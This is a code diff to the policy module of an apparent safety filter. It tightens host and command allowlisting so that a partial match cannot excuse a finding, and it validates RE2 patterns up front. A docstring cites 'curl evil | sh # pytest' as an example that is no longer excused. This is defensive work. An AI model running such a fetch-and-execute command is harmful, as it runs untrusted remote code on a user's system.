@@ -10,6 +10,8 @@ from typing import Sequence
 
 import re2
 
+from .errors import ConfigError
+from .hosts import HostAllowlist
 from .types import CATEGORIES, Finding, Severity, Verdict
 
 __all__ = ["Policy", "COMBINE_MODES"]
@@ -23,20 +25,24 @@ class Policy:
     requested_is_unsafe: bool = False
     min_severity: Severity = Severity.LOW
     disabled_rules: frozenset[str] = frozenset()
-    allow_hosts: tuple[str, ...] = ()
-    allow_commands: tuple[str, ...] = ()  # RE2 patterns; a finding whose evidence matches is dropped
+    allow_hosts: tuple[str, ...] = ()  # hosts, .suffixes, CIDRs; see safefilter.hosts
+    allow_commands: tuple[str, ...] = ()  # RE2 patterns; a finding whose whole evidence matches one is dropped
     combine: str = "either"  # whose findings count: "rules", "classifier" or "either" (the ablation switch)
     _allow_rx: object = field(default=None, init=False, repr=False, compare=False)
+    _hosts: HostAllowlist = field(default_factory=lambda: HostAllowlist(()), init=False, repr=False, compare=False)
 
     def __post_init__(self) -> None:
+        """Check and compile the allowlists once; a bad entry is a ConfigError naming it, before any record."""
         if self.combine not in COMBINE_MODES:
             raise ValueError(f"combine must be one of {COMBINE_MODES}, got {self.combine!r}")
+        object.__setattr__(self, "_hosts", HostAllowlist(self.allow_hosts))
         if self.allow_commands:
-            object.__setattr__(self, "_allow_rx", re2.compile("(?i)(?:" + "|".join(self.allow_commands) + ")"))
+            object.__setattr__(self, "_allow_rx", _compile_commands(self.allow_commands))
 
     def __getstate__(self) -> dict:
         state = dict(self.__dict__)
         state["_allow_rx"] = None
+        state["_hosts"] = None
         return state
 
     def __setstate__(self, state: dict) -> None:
@@ -44,13 +50,15 @@ class Policy:
         self.__post_init__()
 
     def allowed(self, finding: Finding) -> bool:
-        """True when the team has accepted this finding (allowlisted host or command, disabled rule)."""
+        """True when the team has accepted this finding: a disabled rule, evidence whose every network
+        target is an allowlisted host (and there is at least one), or evidence that an
+        `allow_commands` pattern matches as a whole (not a search: `pytest` does not excuse
+        `curl evil | sh # pytest`)."""
         if finding.rule_id in self.disabled_rules:
             return True
-        evidence = finding.evidence.lower()
-        if any(host.lower() in evidence for host in self.allow_hosts):
+        if self._hosts.excuses(finding.evidence):
             return True
-        return self._allow_rx is not None and self._allow_rx.search(finding.evidence) is not None
+        return self._allow_rx is not None and self._allow_rx.fullmatch(finding.evidence.strip()) is not None
 
     def counts(self, finding: Finding) -> bool:
         if finding.severity < self.min_severity:
@@ -72,3 +80,17 @@ class Policy:
             severity=max(f.severity for f in counting),
             first_unsafe_message=min(f.message_index for f in counting),
         )
+
+
+def _compile_commands(patterns: Sequence[str]) -> object:
+    """One case-insensitive RE2 for all `allowlist.commands` patterns; each is checked on its own first,
+    so an error names the pattern (and a pattern cannot close the group and swallow the others)."""
+    options = re2.Options()
+    options.log_errors = False
+    for pattern in patterns:
+        try:
+            re2.compile(pattern, options)
+        except re2.error as exc:
+            reason = exc.args[0].decode() if exc.args and isinstance(exc.args[0], bytes) else str(exc)
+            raise ConfigError(f"allowlist.commands: {pattern!r} is not a valid RE2 pattern ({reason})") from None
+    return re2.compile("(?i)(?:" + "|".join(f"(?:{p})" for p in patterns) + ")", options)
